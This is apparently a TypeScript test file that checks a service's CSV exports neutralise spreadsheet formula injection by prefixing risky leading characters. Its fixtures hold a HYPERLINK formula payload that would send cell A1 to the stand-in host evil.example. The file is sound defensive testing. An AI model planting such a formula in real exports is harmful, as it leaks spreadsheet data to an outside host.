// CSV text that a spreadsheet would run as a formula, in every text column (workload names,
// submitters, team and pool names, group keys): each leading =, +, -, @, tab or CR (OWASP's CSV
// injection guidance), or NUL (ASVS 1.2.10), gets a `'`. Numbers stay numbers, negative ones too.
import { parse } from 'csv-parse/sync';
import { expect } from 'chai';
import sinon from 'sinon';
import type { CapacityBudget } from '../../src/domain/capacity-budget.js';
import { noBudgets } from '../../src/query/empty-sources.js';
import { startTestService, type TestService } from '../support/service-harness.js';
import { aPodInterval, aWorkload } from '../support/workload-builder.js';

const LEADING = ['=', '+', '-', '@', '\t', '\r'];
// NUL too (ASVS), in the budget's names only: no Kubernetes name or label holds one, and PostgreSQL's text cannot.
const BUDGET_LEADING = [...LEADING, '\0'];
const hostile = (lead: string) => `${lead}HYPERLINK("http://evil.example/?"&A1,"x")`;
const HOUR = 3_600_000;
const id = (n: number) => `cf000000-0000-4000-8000-${String(n).padStart(12, '0')}`;

// A budget far smaller than the usage below, so that every remaining figure is negative.
const BUDGET: CapacityBudget = {
  organizationId: 'acme',
  period: 'month',
  allocatedGpuHours: 10,
  pools: BUDGET_LEADING.map((lead, n) => ({ poolId: `pool-${n}`, name: hostile(lead), allocatedGpuHours: 1, instanceTypes: ['p5.48xlarge'] })),
  initiatives: BUDGET_LEADING.map((lead, n) => ({ initiativeId: `team-${n}`, name: hostile(lead), allocatedGpuHours: 1, namespaces: [] })),
};

describe('API CSV formula neutralising', () => {
  let t: TestService;
  const workloads = LEADING.map((lead, n) => {
    const submittedAt = Date.parse('2026-11-19T00:00:00Z') + n * HOUR;
    return aWorkload({
      workloadId: id(n), name: hostile(lead), submittedBy: `${lead}user-${n}`, initiativeId: `team-${n}`, gpuCount: 8,
      submittedAt, startedAt: submittedAt, completedAt: submittedAt + 2 * HOUR,
    });
  });
  // Text that starts otherwise is left as it is, a formula character further in included.
  const plain = aWorkload({ workloadId: id(99), name: 'a=1+2', submittedBy: "'quoted", initiativeId: 'team-0', submittedAt: Date.parse('2026-11-18T00:00:00Z') });

  before(async () => {
    sinon.stub(noBudgets, 'budgetFor').callsFake((org: string) => (org === 'acme' ? BUDGET : undefined));
    t = await startTestService({ now: '2026-11-20T12:00:00Z' });
    await t.service.store.upsertWorkloads([...workloads, plain]);
    await t.service.store.upsertPodIntervals(workloads.map((w) => aPodInterval(w)));
  });
  after(async () => {
    sinon.restore();
    await t.stop();
  });

  const csv = async (path: string) => {
    const res = await t.getText(path, { headers: { Accept: 'text/csv' } });
    expect(res.status, res.text.slice(0, 300)).to.equal(200);
    return parse(res.text, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
  };

  it('prefixes workload names and submitters that start with each formula character', async () => {
    const records = await csv('/v1/workloads?limit=100');
    for (const [n, lead] of LEADING.entries()) {
      const record = records.find((r) => r.workload_id === id(n));
      expect(record?.name, JSON.stringify(lead)).to.equal(`'${hostile(lead)}`);
      expect(record?.submitted_by, JSON.stringify(lead)).to.equal(`'${lead}user-${n}`);
    }
    expect(records.find((r) => r.workload_id === id(99))).to.include({ name: 'a=1+2', submitted_by: "'quoted" });
  });

  it('prefixes group keys of statistics (submitters)', async () => {
    const records = await csv('/v1/workloads/stats?time_range=last_7_days&group_by=submitted_by');
    const groups = records.filter((r) => r.row === 'group').map((r) => r.submitted_by);
    expect(groups).to.have.members([...LEADING.map((lead, n) => `'${lead}user-${n}`), "'quoted"]);
  });

  it('prefixes team and pool names of capacity, and leaves its negative figures numbers', async () => {
    const records = await csv('/v1/capacity');
    const json = (await t.get('/v1/capacity')).body.data;
    for (const [n, lead] of BUDGET_LEADING.entries()) {
      expect(records.find((r) => r.level === 'pool' && r.id === `pool-${n}`)?.name, JSON.stringify(lead)).to.equal(`'${hostile(lead)}`);
      expect(records.find((r) => r.level === 'initiative' && r.id === `team-${n}`)?.name, JSON.stringify(lead)).to.equal(`'${hostile(lead)}`);
    }
    const organization = records.find((r) => r.level === 'organization');
    expect(json.summary.total_remaining_gpu_hours).to.be.below(0);
    expect(organization?.remaining_gpu_hours).to.equal(String(json.summary.total_remaining_gpu_hours));
    const team = records.find((r) => r.id === 'team-0');
    const teamJson = json.initiatives.find((i: { initiative_id: string }) => i.initiative_id === 'team-0');
    expect(teamJson.remaining_gpu_hours).to.be.below(0);
    expect(team?.remaining_gpu_hours).to.equal(String(teamJson.remaining_gpu_hours)).and.match(/^-\d/);
  });
});
